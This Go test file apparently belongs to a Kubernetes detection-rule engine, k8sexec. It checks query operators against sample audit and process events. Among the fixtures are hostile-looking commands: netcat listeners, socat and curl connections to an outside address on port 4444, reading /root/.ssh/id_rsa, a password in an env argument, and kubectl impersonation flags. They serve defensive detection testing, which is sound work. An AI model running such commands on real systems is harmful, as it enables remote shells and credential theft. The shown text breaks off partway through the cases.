package rules_test

import (
	"encoding/json"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"

	"github.com/k8sexec/k8sexec/rules"
	"github.com/k8sexec/k8sexec/scan"
)

// The rules in testdata/operators are k8sexec's own, one small rule per
// query operator k8sexec supports (docs/rules.md). Each is checked here
// against events that must and must not match, with the answer
// Elasticsearch gives for the same document: case, arrays, missing fields,
// numbers and strings, dotted and nested keys, wildcard escaping.

const operatorsDir = "testdata/operators"

// opCase is one event for one operator rule. want is Elasticsearch's
// answer.
type opCase struct {
	name string
	doc  string
	want bool
}

// opAudit is a raw audit.k8s.io/v1 event as kube-apiserver writes it; members
// follow the stage.
func opAudit(members string) string {
	return `{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"6a1f0c52-3b7e-4d0a-9f1e-2c4b8d7e5a10","stage":"ResponseComplete",` + members + `}`
}

// opProc is a Defend for Containers process exec event with the given
// members (process, ...).
func opProc(members string) string {
	return `{"@timestamp":"2026-11-24T10:00:00.000Z","event":{"kind":"event","category":["process"],"type":["start"],"action":"exec","dataset":"cloud_defend.process"},"container":{"id":"3f1c9a7702b54e1d8c6f"},"host":{"os":{"type":"linux"}},` + members + `}`
}

// opNet is a network event with the given members.
func opNet(members string) string {
	return `{"@timestamp":"2026-11-24T10:00:00.000Z","event":{"kind":"event","category":["network"],"type":["start"]},` + members + `}`
}

// Pieces of raw audit events.
const (
	opAlice     = `"user":{"username":"alice@example.com","groups":["sre","system:authenticated"]},"sourceIPs":["203.0.113.24"]`
	opPodRef    = `"objectRef":{"resource":"pods","namespace":"shop","name":"api-7d9f-x2x4q","apiVersion":"v1"}`
	opSecretRef = `"objectRef":{"resource":"secrets","namespace":"shop","name":"db-credentials","apiVersion":"v1"}`
	opAllow     = `"annotations":{"authorization.k8s.io/decision":"allow","authorization.k8s.io/reason":""}`
	opForbid    = `"annotations":{"authorization.k8s.io/decision":"forbid","authorization.k8s.io/reason":""}`
	opBreakRsn  = `RBAC: allowed by ClusterRoleBinding \"break-glass\" of ClusterRole \"cluster-admin\" to User \"mallory@example.com\"`
)

// Functions: on a field with constant arguments, Elasticsearch's EQL
// planner turns startsWith into a prefix query, endsWith and stringContains
// into wildcard queries and cidrMatch into a terms query; `not` over a
// query is a bool must_not, true where the field is missing.
// Case-insensitive prefix, wildcard and regexp queries fold ASCII letters
// only.
var operatorCases = map[string][]opCase{
	"kql_term.toml": {
		{"raw audit pod create", opAudit(`"verb":"create",` + opAlice + `,` + opPodRef), true},
		{"raw audit verb in another case", opAudit(`"verb":"Create",` + opAlice + `,` + opPodRef), false},
		{"raw audit other verb", opAudit(`"verb":"get",` + opAlice + `,` + opPodRef), false},
		{"a longer value is not equal", opAudit(`"verb":"create",` + opAlice + `,"objectRef":{"resource":"podsecuritypolicies","name":"restricted","apiVersion":"v1"}`), false},
		{"JSON escape in the value", opAudit(`"verb":"cr\u0065ate",` + opAlice + `,` + opPodRef), true},
		{"ECS nested", `{"kubernetes":{"audit":{"verb":"create","objectRef":{"resource":"pods"}}}}`, true},
		{"ECS dotted", `{"kubernetes.audit.verb":"create","kubernetes.audit.objectRef.resource":"pods"}`, true},
		{"ECS mixed dotted and nested", `{"kubernetes.audit":{"verb":"create"},"kubernetes":{"audit.objectRef.resource":"pods"}}`, true},
		{"array, any element", `{"kubernetes":{"audit":{"verb":["get","create"],"objectRef":{"resource":"pods"}}}}`, true},
		{"search hit", `{"_index":".ds-logs-kubernetes.audit_logs-default","_id":"a1","_source":{"kubernetes":{"audit":{"verb":"create","objectRef":{"resource":"pods"}}}}}`, true},
		{"missing verb", `{"kubernetes":{"audit":{"objectRef":{"resource":"pods"}}}}`, false},
		{"null verb", `{"kubernetes":{"audit":{"verb":null,"objectRef":{"resource":"pods"}}}}`, false},
		{"number is not the word", `{"kubernetes":{"audit":{"verb":5,"objectRef":{"resource":"pods"}}}}`, false},
	},
	"kql_quoted.toml": {
		{"reason with escaped quotes", opAudit(`"verb":"get",` + opAlice + `,` + opSecretRef + `,"annotations":{"authorization.k8s.io/decision":"allow","authorization.k8s.io/reason":"` + opBreakRsn + `"}`), true},
		{"reason in another case", opAudit(`"verb":"get",` + opAlice + `,` + opSecretRef + `,"annotations":{"authorization.k8s.io/decision":"allow","authorization.k8s.io/reason":"rbac: allowed by ClusterRoleBinding \"break-glass\" of ClusterRole \"cluster-admin\" to User \"mallory@example.com\""}`), false},
		{"reason with more text after it", opAudit(`"verb":"get",` + opAlice + `,` + opSecretRef + `,"annotations":{"authorization.k8s.io/decision":"allow","authorization.k8s.io/reason":"` + opBreakRsn + ` in Namespace \"shop\""}`), false},
		{"reason without the quotes", opAudit(`"verb":"get",` + opAlice + `,` + opSecretRef + `,"annotations":{"authorization.k8s.io/decision":"allow","authorization.k8s.io/reason":"RBAC: allowed by ClusterRoleBinding break-glass of ClusterRole cluster-admin to User mallory@example.com"}`), false},
		{"ECS dotted annotation key", `{"kubernetes.audit.annotations.authorization_k8s_io/reason":"RBAC: allowed by ClusterRoleBinding \"break-glass\" of ClusterRole \"cluster-admin\" to User \"mallory@example.com\""}`, true},
		{"name literally web-*", opAudit(`"verb":"get",` + opAlice + `,"objectRef":{"resource":"pods","namespace":"shop","name":"web-*","apiVersion":"v1"}`), true},
		{"quoted star is no wildcard", opAudit(`"verb":"get",` + opAlice + `,"objectRef":{"resource":"pods","namespace":"shop","name":"web-1","apiVersion":"v1"}`), false},
		{"star written as a JSON escape", opAudit(`"verb":"get",` + opAlice + `,"objectRef":{"resource":"pods","namespace":"shop","name":"web-\u002a","apiVersion":"v1"}`), true},
	},
	"kql_wildcard.toml": {
		{"exec with a command", opAudit(`"requestURI":"/api/v1/namespaces/shop/pods/api-1/exec?command=sh&container=api","verb":"create",` + opAlice), true},
		{"ampersand written as \\u0026", opAudit(`"requestURI":"/api/v1/namespaces/shop/pods/api-1/exec?command=sh\u0026container=api","verb":"create",` + opAlice), true},
		{"attach", opAudit(`"requestURI":"/api/v1/namespaces/shop/pods/api-1/attach?container=api&stdin=true","verb":"create",` + opAlice), false},
		{"exec without a command", opAudit(`"requestURI":"/api/v1/namespaces/shop/pods/api-1/exec?container=api","verb":"create",` + opAlice), false},
		{"question mark is a literal", opAudit(`"requestURI":"/api/v1/namespaces/shop/pods/api-1/exec/command=sh","verb":"create",` + opAlice), false},
		{"case-sensitive", opAudit(`"requestURI":"/API/v1/namespaces/shop/pods/api-1/exec?command=sh","verb":"create",` + opAlice), false},
		{"star crosses slashes", opAudit(`"requestURI":"/api/v1/namespaces/shop/pods/api-1/x/exec?command=sh","verb":"create",` + opAlice), true},
		{"star matches empty runs", opAudit(`"requestURI":"/api/v1/namespaces//pods//exec?command=","verb":"create",` + opAlice), true},
		{"missing", opAudit(`"verb":"create",` + opAlice), false},
	},
	"kql_escapes.toml": {
		{"literal star argument", opProc(`"process":{"name":"du","args":["du","-sh","*"]}`), true},
		{"escaped star is no wildcard", opProc(`"process":{"name":"du","args":["du","-sh","x"]}`), false},
		{"escaped parentheses", opProc(`"process":{"name":"ls","args":["(deleted)"]}`), true},
		{"parentheses inside a longer value", opProc(`"process":{"name":"ls","args":["/tmp/x (deleted)"]}`), false},
		{"node user from raw audit", opAudit(`"verb":"get","user":{"username":"system:node:wk-eu1-a-7h2k","groups":["system:nodes","system:authenticated"]},"sourceIPs":["198.51.100.21"],` + opPodRef), true},
		{"escaped colon needs the colon", opAudit(`"verb":"get","user":{"username":"system:node-proxier"},"sourceIPs":["198.51.100.21"],` + opPodRef), false},
		{"wildcard after escapes matches empty", `{"user":{"name":"system:node:"}}`, true},
		{"escaped value is case-sensitive", `{"user":{"name":"System:Node:wk-1"}}`, false},
	},
	"kql_exists.toml": {
		{"impersonating", opAudit(`"verb":"get",` + opAlice + `,"impersonatedUser":{"username":"system:admin","groups":["system:masters"]},` + opSecretRef), true},
		{"not impersonating", opAudit(`"verb":"get",` + opAlice + `,` + opSecretRef), false},
		{"raw empty string is removed like the ingest pipeline does", opAudit(`"verb":"get",` + opAlice + `,"impersonatedUser":{"username":""},` + opSecretRef), false},
		{"only groups impersonated", opAudit(`"verb":"get",` + opAlice + `,"impersonatedUser":{"groups":["system:masters"]},` + opSecretRef), false},
		{"ECS empty string is a value", `{"kubernetes":{"audit":{"impersonatedUser":{"username":""}}}}`, true},
		{"ECS null", `{"kubernetes":{"audit":{"impersonatedUser":{"username":null}}}}`, false},
		{"ECS empty array", `{"kubernetes":{"audit":{"impersonatedUser":{"username":[]}}}}`, false},
		{"ECS null and a value", `{"kubernetes.audit.impersonatedUser.username":[null,"system:admin"]}`, true},
	},
	"kql_or_list.toml": {
		{"create", opAudit(`"verb":"create",` + opAlice + `,` + opPodRef), true},
		{"update", opAudit(`"verb":"update",` + opAlice + `,` + opPodRef), true},
		{"patch", opAudit(`"verb":"patch",` + opAlice + `,` + opPodRef), true},
		{"get", opAudit(`"verb":"get",` + opAlice + `,` + opPodRef), false},
		{"Patch", opAudit(`"verb":"Patch",` + opAlice + `,` + opPodRef), false},
		{"array with one listed value", `{"kubernetes":{"audit":{"verb":["get","patch"],"objectRef":{"resource":"pods"}}}}`, true},
		{"other resource", opAudit(`"verb":"create",` + opAlice + `,"objectRef":{"resource":"services","namespace":"shop","name":"api","apiVersion":"v1"}`), false},
		{"missing verb", `{"kubernetes":{"audit":{"objectRef":{"resource":"pods"}}}}`, false},
	},
	"kql_and_list.toml": {
		{"both groups", opAudit(`"verb":"get","user":{"username":"dave@example.com","groups":["system:masters","system:authenticated"]},"sourceIPs":["203.0.113.12"],` + opPodRef), true},
		{"one group", opAudit(`"verb":"get","user":{"username":"dave@example.com","groups":["system:authenticated"]},"sourceIPs":["203.0.113.12"],` + opPodRef), false},
		{"a single value cannot be both", `{"kubernetes":{"audit":{"user":{"groups":"system:masters"}}}}`, false},
		{"values from both layouts count", `{"kubernetes.audit.user.groups":["system:masters"],"kubernetes":{"audit":{"user":{"groups":["system:authenticated"]}}}}`, true},
		{"case-sensitive", `{"kubernetes":{"audit":{"user":{"groups":["System:Masters","system:authenticated"]}}}}`, false},
	},
	"kql_not_list.toml": {
		{"delete in shop", opAudit(`"verb":"delete",` + opAlice + `,` + opPodRef), true},
		{"delete in kube-system", opAudit(`"verb":"delete",` + opAlice + `,"objectRef":{"resource":"pods","namespace":"kube-system","name":"etcd-cp-1","apiVersion":"v1"}`), false},
		{"delete of a cluster-scoped object (no namespace)", opAudit(`"verb":"delete",` + opAlice + `,"objectRef":{"resource":"clusterroles","name":"shop-operator","apiGroup":"rbac.authorization.k8s.io","apiVersion":"v1"}`), true},
		{"raw empty namespace is missing", opAudit(`"verb":"delete",` + opAlice + `,"objectRef":{"resource":"nodes","namespace":"","name":"wk-eu1-a-7h2k","apiVersion":"v1"}`), true},
		{"any element equal excludes", `{"kubernetes":{"audit":{"verb":"delete","objectRef":{"namespace":["shop","kube-system"]}}}}`, false},
		{"get in shop", opAudit(`"verb":"get",` + opAlice + `,` + opPodRef), false},
	},
	"kql_nested_boolean.toml": {
		{"person creates a pod", opAudit(`"verb":"create",` + opAlice + `,` + opPodRef), true},
		{"person patches a pod", opAudit(`"verb":"patch",` + opAlice + `,` + opPodRef), true},
		{"person reads a pod", opAudit(`"verb":"get",` + opAlice + `,` + opPodRef), false},
		{"node patches a pod", opAudit(`"verb":"patch","user":{"username":"system:node:wk-eu1-a-7h2k","groups":["system:nodes"]},"sourceIPs":["198.51.100.21"],` + opPodRef), false},
		{"scheduler patches a pod", opAudit(`"verb":"patch","user":{"username":"system:kube-scheduler"},"sourceIPs":["198.51.100.10"],` + opPodRef), false},
		{"person creates a service", opAudit(`"verb":"create",` + opAlice + `,"objectRef":{"resource":"services","namespace":"shop","name":"api","apiVersion":"v1"}`), false},
		{"no user name: the not holds", `{"kubernetes":{"audit":{"verb":"create","objectRef":{"resource":"pods"}}}}`, true},
	},
	"kql_precedence.toml": {
		{"list secrets", opAudit(`"verb":"list",` + opAlice + `,` + opSecretRef), true},
		{"get secrets", opAudit(`"verb":"get",` + opAlice + `,` + opSecretRef), false},
		{"get exec (WebSocket)", opAudit(`"verb":"get",` + opAlice + `,"objectRef":{"resource":"pods","namespace":"shop","name":"api-1","apiVersion":"v1","subresource":"exec"}`), true},
		{"get a pod", opAudit(`"verb":"get",` + opAlice + `,` + opPodRef), false},
		{"secrets without a verb: not get holds", `{"kubernetes":{"audit":{"objectRef":{"resource":"secrets"}}}}`, true},
	},
	"kql_range.toml": {
		{"403", opAudit(`"verb":"get",` + opAlice + `,` + opSecretRef + `,"responseStatus":{"metadata":{},"code":403}`), true},
		{"400 is included", opAudit(`"verb":"get",` + opAlice + `,` + opSecretRef + `,"responseStatus":{"metadata":{},"code":400}`), true},
		{"499", opAudit(`"verb":"get",` + opAlice + `,` + opSecretRef + `,"responseStatus":{"metadata":{},"code":499}`), true},
		{"500 is excluded", opAudit(`"verb":"get",` + opAlice + `,` + opSecretRef + `,"responseStatus":{"metadata":{},"code":500}`), false},
		{"201", opAudit(`"verb":"create",` + opAlice + `,` + opPodRef + `,"responseStatus":{"metadata":{},"code":201}`), false},
		{"no response yet", opAudit(`"verb":"get",` + opAlice + `,` + opSecretRef), false},
		{"number written as a string", `{"kubernetes":{"audit":{"responseStatus":{"code":"403"}}}}`, true},
		{"float spelling", `{"kubernetes":{"audit":{"responseStatus":{"code":403.0}}}}`, true},
		{"compared as numbers, not text", `{"kubernetes":{"audit":{"responseStatus":{"code":"45"}}}}`, false},
		{"not a number", `{"kubernetes":{"audit":{"responseStatus":{"code":"Forbidden"}}}}`, false},
	},
	"kql_range_time.toml": {
		{"raw audit at 09:30 (stageTimestamp)", opAudit(`"verb":"get",` + opAlice + `,` + opPodRef + `,"requestReceivedTimestamp":"2026-11-24T09:29:59.990000Z","stageTimestamp":"2026-11-24T09:30:00.000000Z"`), true},
		{"10:00 is excluded", opAudit(`"verb":"get",` + opAlice + `,` + opPodRef + `,"requestReceivedTimestamp":"2026-11-24T09:59:59.990000Z","stageTimestamp":"2026-11-24T10:00:00.000000Z"`), false},
		{"just before 09:00", opAudit(`"verb":"get",` + opAlice + `,` + opPodRef + `,"requestReceivedTimestamp":"2026-11-24T08:59:59.990000Z","stageTimestamp":"2026-11-24T08:59:59.999999Z"`), false},
		{"only requestReceivedTimestamp", opAudit(`"verb":"get",` + opAlice + `,` + opPodRef + `,"requestReceivedTimestamp":"2026-11-24T09:10:00.000000Z"`), true},
		{"offset +01:00 is 09:30Z", `{"@timestamp":"2026-11-24T10:30:00+01:00"}`, true},
		{"offset -01:00 is 10:30Z", `{"@timestamp":"2026-11-24T09:30:00-01:00"}`, false},
	},
	"kql_boolean.toml": {
		{"hostPID true", opAudit(`"verb":"create",` + opAlice + `,` + opPodRef + `,"requestObject":{"kind":"Pod","apiVersion":"v1","spec":{"containers":[{"name":"x","image":"busybox:1.36"}],"hostPID":true}}`), true},
		{"hostPID false", opAudit(`"verb":"create",` + opAlice + `,` + opPodRef + `,"requestObject":{"kind":"Pod","apiVersion":"v1","spec":{"containers":[{"name":"x","image":"busybox:1.36"}],"hostPID":false}}`), false},
		{"no hostPID", opAudit(`"verb":"create",` + opAlice + `,` + opPodRef + `,"requestObject":{"kind":"Pod","apiVersion":"v1","spec":{"containers":[{"name":"x","image":"busybox:1.36"}]}}`), false},
		{"the string true", `{"kubernetes":{"audit":{"requestObject":{"spec":{"hostPID":"true"}}}}}`, true},
		{"one is not true", `{"kubernetes":{"audit":{"requestObject":{"spec":{"hostPID":1}}}}}`, false},
	},
	"kql_number.toml": {
		{"403", opAudit(`"verb":"get",` + opAlice + `,` + opSecretRef + `,"responseStatus":{"metadata":{},"code":403}`), true},
		{"the string 403", `{"kubernetes":{"audit":{"responseStatus":{"code":"403"}}}}`, true},
		{"403.0", `{"kubernetes":{"audit":{"responseStatus":{"code":403.0}}}}`, true},
		{"leading zero string coerces", `{"kubernetes":{"audit":{"responseStatus":{"code":"0403"}}}}`, true},
		{"4030", `{"kubernetes":{"audit":{"responseStatus":{"code":4030}}}}`, false},
	},
	// source.ip is of type ip: terms take addresses and CIDR blocks, and a
	// value that is no address is not indexed (ignore_malformed).
	"kql_ip.toml": {
		{"raw audit in the block", opAudit(`"verb":"get","user":{"username":"alice@example.com"},"sourceIPs":["10.42.0.7"],` + opPodRef), true},
		{"raw audit second address in the block", opAudit(`"verb":"get","user":{"username":"alice@example.com"},"sourceIPs":["203.0.113.24","10.42.0.7"],` + opPodRef), true},
		{"raw audit outside", opAudit(`"verb":"get",` + opAlice + `,` + opPodRef), false},
		{"IPv4-mapped IPv6 is the IPv4 address", `{"source":{"ip":"::ffff:10.1.2.3"}}`, true},
		{"IPv6 in another spelling", `{"source":{"ip":"2001:DB8:0:0::1"}}`, true},
		{"another IPv6 address", `{"source":{"ip":"2001:db8::2"}}`, false},
		{"the block's text is no address", `{"source":{"ip":"10.0.0.0/8"}}`, false},
		{"text around an address", `{"source.ip":"10.1.2.3 "}`, false},
		{"11.0.0.1 is outside", `{"source.ip":"11.0.0.1"}`, false},
		{"array, any element", `{"source.ip":["198.51.100.1","10.255.255.255"]}`, true},
		{"a number is no address", `{"source":{"ip":167772161}}`, false},
		{"missing", `{"user":{"name":"alice"}}`, false},
	},
	"eql_ip.toml": {
		{"from 192.0.2.7 to 10.0.1.0", opNet(`"source":{"ip":"192.0.2.7"},"destination":{"ip":"10.0.1.0"}`), true},
		{"to 10.0.0.255: the bound is excluded", opNet(`"source":{"ip":"192.0.2.7"},"destination":{"ip":"10.0.0.255"}`), false},
		{"to 9.255.255.255: below as an address, above as text", opNet(`"source":{"ip":"192.0.2.7"},"destination":{"ip":"9.255.255.255"}`), false},
		{"to 10.0.0.1000: above as text, no address", opNet(`"source":{"ip":"192.0.2.7"},"destination":{"ip":"10.0.0.1000"}`), false},
		{"to an IPv6 address: above every IPv4 one", opNet(`"source":{"ip":"192.0.2.7"},"destination":{"ip":"2001:db8::5"}`), true},
		{"from the IPv6 block", opNet(`"source":{"ip":"2001:db8:ffff::1"},"destination":{"ip":"172.16.0.1"}`), true},
		{"from another network", opNet(`"source":{"ip":"198.51.100.7"},"destination":{"ip":"172.16.0.1"}`), false},
		{"from an IPv4-mapped address in the block", opNet(`"source":{"ip":"::ffff:192.0.2.9"},"destination":{"ip":"172.16.0.1"}`), true},
		{"no destination", opNet(`"source":{"ip":"192.0.2.7"}`), false},
	},
	// @timestamp and event.created are date fields: instants to the
	// millisecond; a value that leaves out parts covers all they could be.
	"kql_date.toml": {
		{"raw audit at the day's last microsecond", opAudit(`"verb":"get",` + opAlice + `,` + opPodRef + `,"requestReceivedTimestamp":"2026-11-20T23:59:59.990000Z","stageTimestamp":"2026-11-20T23:59:59.999999Z"`), true},
		{"raw audit at the next midnight", opAudit(`"verb":"get",` + opAlice + `,` + opPodRef + `,"requestReceivedTimestamp":"2026-11-20T23:59:59.990000Z","stageTimestamp":"2026-11-21T00:00:00.000000Z"`), false},
		{"+01:00 the same day", `{"@timestamp":"2026-11-20T10:30:00+01:00"}`, true},
		{"+01:00 past midnight is the day before in UTC", `{"@timestamp":"2026-11-20T00:30:00+01:00"}`, false},
		{"epoch milliseconds", `{"@timestamp":1795176000000}`, true},
		{"epoch milliseconds as a string", `{"@timestamp":"1795176000000"}`, true},
		{"no zone is UTC", `{"@timestamp":"2026-11-20T23:30:00"}`, true},
		{"no date, not indexed", `{"@timestamp":"yesterday"}`, false},
		{"created in the bound's last millisecond", `{"@timestamp":"2026-11-25T00:00:00Z","event":{"created":"2026-11-19T12:59:59.999Z"}}`, true},
		{"created after the bound's hour", `{"@timestamp":"2026-11-25T00:00:00Z","event":{"created":"2026-11-19T13:00:00Z"}}`, false},
		{"missing", `{"user":{"name":"alice"}}`, false},
	},
	"eql_date.toml": {
		{"the 20th's last millisecond: gt leaves out the whole day", `{"@timestamp":"2026-11-20T23:59:59.999Z"}`, false},
		{"the 21st at midnight", `{"@timestamp":"2026-11-21T00:00:00Z"}`, true},
		{"the 21st's last microsecond", `{"@timestamp":"2026-11-21T23:59:59.999999Z"}`, true},
		{"the 22nd at midnight: lt leaves it out", `{"@timestamp":"2026-11-22T00:00:00Z"}`, false},
		{"the 21st at 01:00 in +02:00 is the 20th in UTC", `{"@timestamp":"2026-11-21T01:00:00+02:00"}`, false},
		{"a date without a time", `{"@timestamp":"2026-11-21"}`, true},
		{"epoch milliseconds on the 21st", `{"@timestamp":1795262400000}`, true},
		{"text that sorts inside but is no date", `{"@timestamp":"2026-11-21 noon"}`, false},
	},

	"eql_equals.toml": {
		{"create", opAudit(`"verb":"create",` + opAlice + `,` + opPodRef), true},
		{"Create", opAudit(`"verb":"Create",` + opAlice + `,` + opPodRef), false},
		{"array, any element", `{"kubernetes":{"audit":{"verb":["get","create"]}}}`, true},
		{"JSON escape", opAudit(`"verb":"\u0063reate",` + opAlice + `,` + opPodRef), true},
		{"dotted", `{"kubernetes.audit.verb":"create"}`, true},
		{"missing", `{"kubernetes":{"audit":{"objectRef":{"resource":"pods"}}}}`, false},
	},
	"eql_equals_number.toml": {
		{"403", opAudit(`"verb":"get",` + opAlice + `,` + opSecretRef + `,"responseStatus":{"metadata":{},"code":403}`), true},
		{"the string 403", `{"kubernetes":{"audit":{"responseStatus":{"code":"403"}}}}`, true},
		{"403.0", `{"kubernetes":{"audit":{"responseStatus":{"code":403.0}}}}`, true},
		{"404", `{"kubernetes":{"audit":{"responseStatus":{"code":404}}}}`, false},
		{"missing", `{"kubernetes":{"audit":{"verb":"get"}}}`, false},
	},
	"eql_boolean.toml": {
		{"interactive entry leader", opProc(`"process":{"name":"bash","interactive":true,"entry_leader":{"same_as_process":true}}`), true},
		{"the strings true", opProc(`"process":{"name":"bash","interactive":"true","entry_leader":{"same_as_process":"true"}}`), true},
		{"not interactive", opProc(`"process":{"name":"bash","interactive":false,"entry_leader":{"same_as_process":true}}`), false},
		{"a child of the leader", opProc(`"process":{"name":"ls","interactive":true,"entry_leader":{"same_as_process":false}}`), false},
		{"no entry leader", opProc(`"process":{"name":"bash","interactive":true}`), false},
	},
	"eql_not_equals.toml": {
		{"delete in shop", opAudit(`"verb":"delete",` + opAlice + `,` + opPodRef), true},
		{"delete in kube-system", opAudit(`"verb":"delete",` + opAlice + `,"objectRef":{"resource":"pods","namespace":"kube-system","name":"etcd-cp-1","apiVersion":"v1"}`), false},
		{"cluster-scoped: missing field", opAudit(`"verb":"delete",` + opAlice + `,"objectRef":{"resource":"clusterroles","name":"shop-operator","apiGroup":"rbac.authorization.k8s.io","apiVersion":"v1"}`), true},
		{"case-sensitive", `{"kubernetes":{"audit":{"verb":"delete","objectRef":{"namespace":"Kube-System"}}}}`, true},
		{"any element equal excludes", `{"kubernetes":{"audit":{"verb":"delete","objectRef":{"namespace":["shop","kube-system"]}}}}`, false},
	},
	"eql_colon.toml": {
		{"/usr/local/bin/kubectl", opProc(`"process":{"name":"kubectl","executable":"/usr/local/bin/kubectl"}`), true},
		{"other case", opProc(`"process":{"name":"KUBECTL","executable":"/USR/BIN/KUBECTL"}`), true},
		{"star matches an empty run", opProc(`"process":{"name":"kubectl","executable":"/usr//kubectl"}`), true},
		{"suffix after the pattern", opProc(`"process":{"name":"kubectl.bak","executable":"/usr/bin/kubectl.bak"}`), false},
		{"outside /usr", opProc(`"process":{"name":"kubectl","executable":"/opt/kubectl"}`), false},
		{"Kelvin sign is not k (ASCII folding only)", opProc(`"process":{"name":"kubectl","executable":"/usr/bin/\u212aubectl"}`), false},
		{"missing", opProc(`"process":{"name":"kubectl"}`), false},
	},
	"eql_colon_list.toml": {
		{"NC", opProc(`"process":{"name":"NC"}`), true},
		{"netcat.openbsd", opProc(`"process":{"name":"netcat.openbsd"}`), true},
		{"ncat", opProc(`"process":{"name":"ncat"}`), true},
		{"socat", opProc(`"process":{"name":"socat"}`), false},
		{"array, any element", opProc(`"process":{"name":["bash","nc"]}`), true},
		{"nc with a suffix", opProc(`"process":{"name":"nc.traditional"}`), false},
	},
	"eql_in.toml": {
		{"a rule grants the * verb", opAudit(`"verb":"create",` + opAlice + `,"objectRef":{"resource":"roles","namespace":"ci","name":"ci-runner","apiGroup":"rbac.authorization.k8s.io","apiVersion":"v1"},"requestObject":{"kind":"Role","apiVersion":"rbac.authorization.k8s.io/v1","rules":[{"verbs":["get","list"],"apiGroups":[""],"resources":["pods"]},{"verbs":["*"],"apiGroups":[""],"resources":["secrets"]}]}`), true},
		{"the * in the list is no wildcard", opAudit(`"verb":"create",` + opAlice + `,"objectRef":{"resource":"roles","namespace":"ci","name":"ci-runner","apiGroup":"rbac.authorization.k8s.io","apiVersion":"v1"},"requestObject":{"kind":"Role","apiVersion":"rbac.authorization.k8s.io/v1","rules":[{"verbs":["get","list","watch"],"apiGroups":[""],"resources":["pods"]}]}`), false},
		{"bind", `{"kubernetes":{"audit":{"requestObject":{"rules":[{"verbs":["bind"]}]}}}}`, true},
		{"BIND is another value", `{"kubernetes":{"audit":{"requestObject":{"rules":[{"verbs":["BIND"]}]}}}}`, false},
		{"no request body", opAudit(`"verb":"create",` + opAlice + `,` + opPodRef), false},
	},
	"eql_not_in.toml": {
		{"a person reads a secret", opAudit(`"verb":"get",` + opAlice + `,` + opSecretRef), true},
		{"controller manager", opAudit(`"verb":"list","user":{"username":"system:kube-controller-manager"},"sourceIPs":["198.51.100.10"],` + opSecretRef), false},
		{"scheduler", opAudit(`"verb":"list","user":{"username":"system:kube-scheduler"},"sourceIPs":["198.51.100.10"],` + opSecretRef), false},
		{"no user name: not in holds", opAudit(`"verb":"get","user":{},"sourceIPs":["192.0.2.201"],` + opSecretRef), true},
		{"case-sensitive", `{"kubernetes":{"audit":{"objectRef":{"resource":"secrets"},"user":{"username":"System:Kube-Scheduler"}}}}`, true},
	},
	"eql_in_insensitive.toml": {
		{"bash", opProc(`"process":{"name":"bash"}`), true},
		{"BASH", opProc(`"process":{"name":"BASH"}`), true},
		{"sh", opProc(`"process":{"name":"sh"}`), true},
		{"Zsh", opProc(`"process":{"name":"Zsh"}`), true},
		{"dash", opProc(`"process":{"name":"dash"}`), false},
		{"no wildcards: bash5", opProc(`"process":{"name":"bash5"}`), false},
	},
	"eql_like.toml": {
		{"/tmp/kworker", opProc(`"process":{"name":"kworker","executable":"/tmp/kworker"}`), true},
		{"? needs one character", opProc(`"process":{"name":"","executable":"/tmp/"}`), false},
		{"one character", opProc(`"process":{"name":"a","executable":"/tmp/a"}`), true},
		{"case-sensitive", opProc(`"process":{"name":"x","executable":"/TMP/x"}`), false},
		{"anchored at the start", opProc(`"process":{"name":"x","executable":"/var/tmp/x"}`), false},
		{"/tmp itself", opProc(`"process":{"name":"tmp","executable":"/tmp"}`), false},
	},
	"eql_like_list.toml": {
		{"--as=", opProc(`"process":{"name":"kubectl","args":["kubectl","get","pods","--as=system:admin"]}`), true},
		{"--token=abc", opProc(`"process":{"name":"kubectl","args":["kubectl","--token=abc","get","secrets"]}`), true},
		{"--token= with nothing after", opProc(`"process":{"name":"kubectl","args":["kubectl","--token=","get","secrets"]}`), false},
		{"-lv", opProc(`"process":{"name":"nc","args":["nc","-lv","4444"]}`), true},
		{"-l alone", opProc(`"process":{"name":"nc","args":["nc","-l","4444"]}`), false},
		{"-lvp is one too many", opProc(`"process":{"name":"nc","args":["nc","-lvp","4444"]}`), false},
		{"case-sensitive", opProc(`"process":{"name":"kubectl","args":["kubectl","--AS=system:admin"]}`), false},
	},
	"eql_like_insensitive.toml": {
		{"--kubeconfig", opProc(`"process":{"name":"kubectl","command_line":"kubectl --kubeconfig=/tmp/k get pods"}`), true},
		{"upper case", opProc(`"process":{"name":"kubectl","command_line":"kubectl --KUBECONFIG=/tmp/k get pods"}`), true},
		{"split word", opProc(`"process":{"name":"kubectl","command_line":"kubectl config view"}`), false},
		{"dotted capital I is not i", opProc(`"process":{"name":"kubectl","command_line":"kubectl --KUBECONF\u0130G=/tmp/k"}`), false},
		{"missing", opProc(`"process":{"name":"kubectl"}`), false},
	},
	"eql_like_insensitive_list.toml": {
		{"PASSWORD", opProc(`"process":{"name":"env","args":["env","DB_PASSWORD=hunter2"]}`), true},
		{"ID_RSA", opProc(`"process":{"name":"cat","args":["cat","/root/.ssh/ID_RSA"]}`), true},
		{"passwd", opProc(`"process":{"name":"cat","args":["cat","/etc/passwd"]}`), false},
	},
	"eql_regex.toml": {
		{"address and port", opProc(`"process":{"name":"socat","args":["socat","-","198.51.100.7:4444"]}`), true},
		{"anchored: scheme before", opProc(`"process":{"name":"curl","args":["curl","tcp://198.51.100.7:4444"]}`), false},
		{"no port", opProc(`"process":{"name":"nc","args":["nc","198.51.100.7","4444"]}`), false},
		{"four digits in a part", opProc(`"process":{"name":"nc","args":["x","1234.5.6.7:80"]}`), false},
		{"six-digit port", opProc(`"process":{"name":"nc","args":["x","198.51.100.7:123456"]}`), false},
	},
	"eql_regex_insensitive.toml": {
		{"BASH", opProc(`"process":{"name":"BASH"}`), true},
		{"sh", opProc(`"process":{"name":"sh"}`), true},
		{"Dash", opProc(`"process":{"name":"Dash"}`), true},
		{"fish", opProc(`"process":{"name":"fish"}`), false},
		{"anchored: bashx", opProc(`"process":{"name":"bashx"}`), false},
		{"KUBECTL", opProc(`"process":{"name":"KUBECTL"}`), true},
		{"Kelvin sign is not k", opProc(`"process":{"name":"\u212aubectl"}`), false},
	},
	"eql_null.toml": {
		{"user {} on a 401", opAudit(`"verb":"create","user":{},"sourceIPs":["192.0.2.201"],` + opPodRef), true},
		{"raw empty user name is missing", opAudit(`"verb":"create","user":{"username":""},"sourceIPs":["192.0.2.201"],` + opPodRef), true},
